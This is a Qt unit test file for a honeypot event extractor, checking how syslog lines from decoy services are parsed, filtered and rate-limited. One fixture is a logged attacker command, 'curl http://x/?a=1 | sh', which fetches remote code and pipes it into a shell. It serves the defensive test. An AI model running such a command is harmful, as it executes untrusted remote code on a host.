// SPDX-License-Identifier: GPL-3.0-or-later
// contract: C-01, C-02
#include "core/intel/collectsource.h"
#include "core/intel/eventextractor.h"
#include "core/intel/eventlog.h"
#include "core/intel/noise.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace decnet;

namespace {

const CollectSource kSource{u"c0ffee"_s, u"11112222-3333-4444-8555-666677778888"_s, u"decky-uuid"_s,
                            u"web-1"_s, u"http"_s};

std::optional<DecoyEvent> read(const QByteArray &text)
{
    return eventFromLine(kSource, {u"2026-06-01T10:00:01.500000000Z"_s, false, text});
}

DecoyEvent noiseEvent(const QString &type, qint64 ms, const QString &ip = u"10.0.0.1"_s)
{
    DecoyEvent event;
    event.type = type;
    event.attackerIp = ip;
    event.decky = u"web"_s;
    event.at = QDateTime::fromMSecsSinceEpoch(ms, Qt::UTC);
    return event;
}

} // namespace

class TestEventExtractor : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void labelsSayWhoseLineSaysWhat()
    {
        const QByteArray text = "<134>1 2026-06-01T10:00:00.123456+00:00 WEB-HOST https - request "
                                "[relay@55555 src_ip=\"10.0.0.9\" src_port=\"4000\" path=\"/\"]";
        const auto event = read(text);
        QVERIFY(event);
        QCOMPARE(event->topologyId, kSource.topologyId);
        QCOMPARE(event->deckyId, u"decky-uuid"_s);
        QCOMPARE(event->decky, u"web-1"_s);
        QCOMPARE(event->service, u"http"_s);
        QCOMPARE(event->type, u"request"_s);
        QCOMPARE(event->attackerIp, u"10.0.0.9"_s);
        QCOMPARE(int(event->attackerPort), 4000);
        QCOMPARE(event->fields.value("path"_L1).toString(), u"/"_s);
        QCOMPARE(event->raw.toUtf8(), text);
        QCOMPARE(event->count, 1);
        QCOMPARE(event->at, QDateTime({2026, 6, 1}, {10, 0, 0, 123}, Qt::UTC));
    }

    void withoutLabelsTheLineSpeaksForItself()
    {
        CollectSource bare;
        bare.containerId = u"c0ffee"_s;
        const auto event = eventFromLine(bare, {{}, false, "<134>1 - decky-7 ftp - connect -"});
        QVERIFY(event);
        QCOMPARE(event->decky, u"decky-7"_s);
        QCOMPARE(event->service, u"ftp"_s);
        QCOMPARE(event->attackerIp, u"Unknown"_s);
    }

    void engineTimeStandsInForAMissingOne()
    {
        const auto event = read("<134>1 - h http - connect -");
        QVERIFY(event);
        QCOMPARE(event->at, QDateTime({2026, 6, 1}, {10, 0, 1, 500}, Qt::UTC));
    }

    void shellCommands()
    {
        const auto event = read("<134>1 2026-06-01T10:00:00Z h ssh - - - CMD uid=0 user=root "
                                "src=10.0.0.4 pwd=/tmp cmd=curl http://x/?a=1 | sh");
        QVERIFY(event);
        QCOMPARE(event->type, u"command"_s);
        QCOMPARE(event->fields.value("uid"_L1).toString(), u"0"_s);
        QCOMPARE(event->fields.value("pwd"_L1).toString(), u"/tmp"_s);
        QCOMPARE(event->fields.value("command"_L1).toString(), u"curl http://x/?a=1 | sh"_s);
        QCOMPARE(event->attackerIp, u"10.0.0.4"_s);
    }

    void relayedLinesAreUnwrapped()
    {
        const auto event = read("<134>1 2026-06-01T10:00:09Z relay rsyslogd - - - <133>1 "
                                "2026-06-01T10:00:00Z inner ssh - auth [x@1 src_ip=\"10.0.0.3\"]");
        QVERIFY(event);
        QCOMPARE(event->type, u"auth"_s);
        QCOMPARE(event->attackerIp, u"10.0.0.3"_s);
        QCOMPARE(event->at.time().second(), 0);
    }

    void notADecoy_data()
    {
        QTest::addColumn<QByteArray>("text");
        for (const char *app : {"sshd", "pam_unix", "sudo", "su", "CRON", "cron", "systemd",
                                "kernel", "rsyslogd", "dbus-daemon"})
            QTest::newRow(app) << QByteArray("<38>1 2026-06-01T10:00:00Z h ") + app + " 1 - - text";
        QTest::newRow("plain text") << QByteArray("Listening on port 80");
        QTest::newRow("empty") << QByteArray();
    }

    void notADecoy()
    {
        QFETCH(QByteArray, text);
        QVERIFY(!read(text));
    }

    void suppressedLinesAreCounted_data()
    {
        QTest::addColumn<QByteArray>("count");
        QTest::addColumn<int>("expected");
        QTest::newRow("some") << QByteArray("60157") << 60157;
        QTest::newRow("none") << QByteArray("0") << 1;
        QTest::newRow("nonsense") << QByteArray("x") << 1;
        QTest::newRow("beyond reason") << QByteArray("2000000000") << 1'000'000;
    }

    void suppressedLinesAreCounted()
    {
        QFETCH(QByteArray, count);
        QFETCH(int, expected);
        const auto event = read("<134>1 2026-06-01T10:00:00Z h rdp - suppressed [relay@55555 "
                                "src_ip=\"10.0.0.9\" count=\"" +
                                count + "\"]");
        QVERIFY(event);
        QCOMPARE(event->count, expected);
    }

    void sources()
    {
        const Labels labels{{u"decnet.topology.service"_s, u"true"_s},
                            {u"decnet.topology.id"_s, u"t"_s},
                            {u"decnet.topology.decky"_s, u"web"_s},
                            {u"decnet.topology.decky_id"_s, u"d"_s},
                            {u"decnet.topology.service_name"_s, u"ssh"_s}};
        const auto source = CollectSource::fromLabels(u"id"_s, labels);
        QVERIFY(source);
        QCOMPARE(source->decky, u"web"_s);
        QCOMPARE(source->deckyId, u"d"_s);
        QCOMPARE(source->service, u"ssh"_s);
        Labels base = labels;
        base.remove(u"decnet.topology.service"_s);
        QVERIFY(!CollectSource::fromLabels(u"id"_s, base));
        Labels onlyId = labels;
        onlyId.remove(u"decnet.topology.decky_id"_s);
        onlyId[u"decnet.topology.decky"_s] = u"11112222-3333-4444-8555-666677778888"_s;
        const auto byId = CollectSource::fromLabels(u"id"_s, onlyId);
        QVERIFY(byId->decky.isEmpty());
        QCOMPARE(byId->deckyId, u"11112222-3333-4444-8555-666677778888"_s);
    }

    void oneNoiseEventASecond()
    {
        NoiseWindow window;
        QVERIFY(!window.representative(noiseEvent(u"connect"_s, 1000)));
        window.remember(noiseEvent(u"connect"_s, 1000), 7);
        QCOMPARE(window.representative(noiseEvent(u"connect"_s, 1000)), std::optional<qint64>(7));
        QCOMPARE(window.representative(noiseEvent(u"connect"_s, 1999)), std::optional<qint64>(7));
        QVERIFY(!window.representative(noiseEvent(u"connect"_s, 2000)));
        QVERIFY(!window.representative(noiseEvent(u"connect"_s, 999)));
        QVERIFY(!window.representative(noiseEvent(u"disconnect"_s, 1000)));
        QVERIFY(!window.representative(noiseEvent(u"connect"_s, 1000, u"10.0.0.2"_s)));
        window.remember(noiseEvent(u"auth_attempt"_s, 1000), 8);
        QVERIFY(!window.representative(noiseEvent(u"auth_attempt"_s, 1000)));
    }

    void noiseWindowIsBounded()
    {
        NoiseWindow window;
        for (int i = 0; i < 3 * NoiseWindow::kMaxEntries; ++i)
            window.remember(noiseEvent(u"connect"_s, 1000, QString::number(i)), i);
        QVERIFY(!window.representative(noiseEvent(u"connect"_s, 1000, u"0"_s)));
        QVERIFY(window.representative(
            noiseEvent(u"connect"_s, 1000, QString::number(3 * NoiseWindow::kMaxEntries - 1))));
    }

    void jsonFormOfTheLog()
    {
        const auto event = read("<134>1 2026-06-01T10:00:00.9Z h http - request [r@1 "
                                "src_ip=\"10.0.0.9\" path=\"/\"] text");
        const QJsonObject json = eventLogJson(*event);
        QCOMPARE(json.value("timestamp"_L1).toString(), u"2026-06-01 10:00:00"_s);
        for (const char *key :
             {"decky", "service", "event_type", "attacker_ip", "fields", "msg", "raw_line"})
            QVERIFY2(json.contains(QLatin1StringView(key)), key);
        QCOMPARE(json.value("fields"_L1).toObject().value("path"_L1).toString(), u"/"_s);
    }
};

QTEST_APPLESS_MAIN(TestEventExtractor)
#include "tst_eventextractor.moc"
